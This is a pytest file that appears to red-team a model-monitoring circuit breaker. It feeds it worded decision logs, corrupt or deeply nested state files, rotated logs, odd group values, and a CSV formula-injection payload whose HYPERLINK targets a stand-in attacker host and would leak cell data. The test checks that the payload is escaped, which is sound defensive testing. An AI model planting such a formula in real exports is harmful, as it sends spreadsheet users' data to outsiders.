"""Red team of the circuit breaker's inputs: a decision log whose decisions are written in
other words than its labels, and hostile state files.

A log whose decisions read ``approve``/``deny`` while its review outcomes read ``1``/``0``
never had a decision counted as positive: watched on its false-positive rate, a model wrong
40 % of the time kept the breaker closed (exit 0).
"""

from __future__ import annotations

import json

import numpy as np
import pandas as pd
import pytest

from .bad_inputs_support import write_yaml
from .monitor_support import HOUR, START, monitor_spec, service_log


def _monitor(fairgate, tmp_path, spec, log):
    code, out, err = fairgate(
        "monitor", spec, "--log", log, "--no-mlflow", "--out", tmp_path / "out",
        "--state-dir", tmp_path / "state",
    )  # fmt: skip
    return code, out + err


def _worded_log(tmp_path):
    """A log whose model is wrong 40 % of the time, its decisions written as words."""
    log = service_log([0.40] * 3, per_window=400)
    log["decision"] = np.where(log["decision"] == 1, "approve", "deny")
    path = tmp_path / "log.csv"
    log.to_csv(path, index=False)
    return path


@pytest.mark.parametrize("metric", ["false_positive_rate", "false_negative_rate", "error_rate"])
def test_decisions_in_other_words_than_the_labels_cannot_decide(fairgate, tmp_path, metric):
    path = _worded_log(tmp_path)
    spec = write_yaml(tmp_path / "s.yaml", monitor_spec(path, metric=metric))
    code, output = _monitor(fairgate, tmp_path, spec, path)
    assert code == 2, output
    assert "could not decide" in output and "'approve'" in output
    assert "model.decision_values" in output
    assert not (tmp_path / "state").exists()  # the breaker's state is left as it was


def test_decisions_mapped_to_the_labels_are_judged(fairgate, tmp_path):
    path = _worded_log(tmp_path)
    spec = monitor_spec(path, metric="false_positive_rate")
    spec["model"]["decision_values"] = {"approve": 1, "deny": 0}
    code, output = _monitor(fairgate, tmp_path, write_yaml(tmp_path / "s.yaml", spec), path)
    assert code == 5, output  # 40 % wrong: the breaker opens
    assert "breaker: open" in output


def _guard_of(source: str, max_age_s: float = 0.0):
    """The served guard's breaker reader, as ``load_context`` sets it up (no model needed to
    read the state)."""
    import threading

    from audits._guard_model import BreakerGuard

    guard = BreakerGuard()
    guard._source, guard._refresh, guard._max_age = source, 0.0, max_age_s
    guard._lock, guard._read_at = threading.Lock(), float("-inf")
    guard._state = ("open", "breaker state not read yet")
    return guard


def test_a_guarded_version_without_a_breaker_tag_is_not_served(tmp_path, monkeypatch):
    """A version no monitor ever tagged (or whose tag could not be set) gives the guard no
    permission to decide: it used to read a missing ``fairgate.breaker`` tag as closed."""
    from mlflow.tracking import MlflowClient

    tracking = f"sqlite:///{tmp_path / 'mlflow.db'}"
    monkeypatch.setenv("MLFLOW_TRACKING_URI", tracking)
    client = MlflowClient(tracking_uri=tracking)
    client.create_registered_model("svc-model")
    source = (tmp_path / "model").as_uri()
    client.create_model_version("svc-model", source)
    guard = _guard_of("models:/svc-model/1")
    state, reason = guard.state()
    assert state == "open", reason
    assert "no fairgate.breaker tag" in reason
    client.set_model_version_tag("svc-model", "1", "fairgate.breaker", "closed")
    assert guard.state()[0] == "closed"  # a monitor's tag is read as before


HOSTILE_STATES = [
    "not json",
    "[]",
    '"closed"',
    '{"state": "closed", "last_window": "x", "events": 3}',
    "[" * 100_000 + "]" * 100_000,
]


@pytest.mark.parametrize("text", HOSTILE_STATES, ids=lambda t: t[:30])
def test_a_person_forces_open_a_breaker_whose_state_file_is_corrupt(fairgate, tmp_path, text):
    """``breaker open`` read the state file first and stopped on one it could not use
    ("fairgate failed: AttributeError"): a state file saying closed, with a broken field,
    kept the served model deciding although a person asked to stop it."""
    state_dir = tmp_path / "state"
    state_dir.mkdir()
    state_file = state_dir / "svc.json"
    state_file.write_text(text, encoding="utf-8")
    code, out, err = fairgate(
        "breaker", "open", "svc", "--by", "Ana", "--reason", "complaints",
        "--state-dir", state_dir,
    )  # fmt: skip
    assert code == 0, out + err
    assert json.loads(state_file.read_text(encoding="utf-8"))["state"] == "open"
    code, out, err = fairgate("breaker", "status", "svc", "--state-dir", state_dir)
    assert code == 5, out + err


@pytest.mark.parametrize("text", HOSTILE_STATES[1:], ids=lambda t: t[:30])
def test_the_status_of_a_state_file_without_a_state_cannot_decide(fairgate, tmp_path, text):
    state_dir = tmp_path / "state"
    state_dir.mkdir()
    (state_dir / "svc.json").write_text(text.replace('"closed",', '["closed"],'), "utf-8")
    code, out, err = fairgate("breaker", "status", "svc", "--state-dir", state_dir)
    assert code == 2, out + err
    assert "fairgate failed" not in err and "closed" not in out


def test_a_person_s_reason_is_no_formula_in_transitions_csv(fairgate, tmp_path):
    """``--reason "=HYPERLINK(...)"`` went into transitions.csv as written: a spreadsheet
    opening the monitoring evidence ran it as a formula."""
    path = tmp_path / "log.csv"
    service_log([0.05] * 2, per_window=200).to_csv(path, index=False)
    spec = write_yaml(tmp_path / "s.yaml", monitor_spec(path))
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    code, out, err = fairgate(
        "breaker", "open", "service-watch", "--by", "@Ana", "--reason", formula,
        "--state-dir", tmp_path / "state",
    )  # fmt: skip
    assert code == 0, out + err
    code, output = _monitor(fairgate, tmp_path, spec, path)
    assert code == 5, output
    table = pd.read_csv(tmp_path / "out" / "transitions.csv", dtype=str)
    (row,) = table[table["cause"] == "force_open"].itertuples()
    assert row.reason == "'" + formula and row.by == "'@Ana"
    texts = ["label", "before", "after", "cause", "check", "group", "by", "reason", "at"]
    for cell in table[texts].fillna("").to_numpy().ravel():
        assert cell[:1] not in ("=", "+", "-", "@"), cell


def _rotated(keep):
    """A log that trips the breaker in its third hour, and what is left of it after rotation
    (``keep``: the hours that stay) with one more healthy hour appended."""
    tripping = service_log([0.05, 0.05, 0.40], per_window=400, tail=False)
    later = service_log([0.05], per_window=400, start=START + 3 * HOUR, seed=3)
    hours = ((tripping["ts"] - START) // HOUR).to_numpy()
    return tripping, pd.concat([tripping[np.isin(hours, keep)], later])


@pytest.mark.parametrize("keep", [[], [1]], ids=["rotated-away", "rotated-in-part"])
def test_a_rotated_log_does_not_close_a_tripped_breaker(fairgate, tmp_path, keep):
    """The monitor replays the log from its first row: once the rows that tripped the breaker
    were rotated away, the replay closed it (exit 0, the guard serving again) with no
    cool-down, no recovery windows and no person's reset."""
    tripping, rotated = _rotated(keep)
    path = tmp_path / "log.csv"
    pd.concat([tripping, rotated.tail(1)]).to_csv(path, index=False)
    spec = write_yaml(tmp_path / "s.yaml", monitor_spec(path))
    code, output = _monitor(fairgate, tmp_path, spec, path)
    assert code == 5, output
    state_file = tmp_path / "state" / "service-watch.json"
    before = state_file.read_text(encoding="utf-8")
    assert json.loads(before)["state"] in ("open", "half_open")
    rotated.to_csv(path, index=False)
    code, output = _monitor(fairgate, tmp_path, spec, path)
    assert code == 2, output
    assert "no longer holds the windows" in output and "breaker reset service-watch" in output
    assert state_file.read_text(encoding="utf-8") == before  # left as it was
    # A person who checked the model resets it; the monitor then judges the log it has.
    code, out, err = fairgate(
        "breaker", "reset", "service-watch", "--by", "Ben", "--reason", "checked",
        "--state-dir", tmp_path / "state",
    )  # fmt: skip
    assert code == 0, out + err
    code, output = _monitor(fairgate, tmp_path, spec, path)
    assert code == 0, output


def test_a_truncated_count_window_log_does_not_close_a_tripped_breaker(fairgate, tmp_path):
    log = service_log([0.05, 0.05, 0.40], per_window=400)
    path = tmp_path / "log.csv"
    log.to_csv(path, index=False)
    spec = write_yaml(tmp_path / "s.yaml", monitor_spec(path, window=400, cool_down=1))
    code, output = _monitor(fairgate, tmp_path, spec, path)
    assert code == 5, output
    log.head(801).to_csv(path, index=False)  # the file was cut back to its first two windows
    code, output = _monitor(fairgate, tmp_path, spec, path)
    assert code == 2, output
    assert "fewer than the 3" in output


def test_a_log_that_grows_is_judged_as_before(fairgate, tmp_path):
    path = tmp_path / "log.csv"
    service_log([0.05, 0.40], per_window=400).to_csv(path, index=False)
    spec = write_yaml(tmp_path / "s.yaml", monitor_spec(path))
    assert _monitor(fairgate, tmp_path, spec, path)[0] == 5
    grown = service_log([0.05, 0.40], per_window=400, tail=False)
    more = service_log([0.05] * 8, per_window=400, start=START + 2 * HOUR, seed=5)
    pd.concat([grown, more]).to_csv(path, index=False)
    code, output = _monitor(fairgate, tmp_path, spec, path)
    assert code == 0, output  # cool-down, then two healthy windows: closed by the replay


@pytest.mark.parametrize(
    ("value", "words"),
    [("a|b", "values containing '|'"), ("a ", "print alike")],
    ids=["pipe", "trailing-space"],
)
def test_a_group_value_the_audit_refuses_cannot_decide(fairgate, tmp_path, value, words):
    """A log's group value holding '|' ended the monitor in "fairgate failed: ValueError"
    while writing its evidence (the disclosure rule splits group keys on '|'); one that
    prints like another ('a ' beside 'a') was judged as a group of its own."""
    log = service_log([0.05, 0.3, 0.05], per_window=200)
    log.loc[log.index[:20], "group"] = value
    path = tmp_path / "log.csv"
    log.to_csv(path, index=False)
    spec = write_yaml(tmp_path / "s.yaml", monitor_spec(path))
    code, output = _monitor(fairgate, tmp_path, spec, path)
    assert code == 2, output
    assert words in output and "fairgate failed" not in output
    assert not (tmp_path / "state").exists()
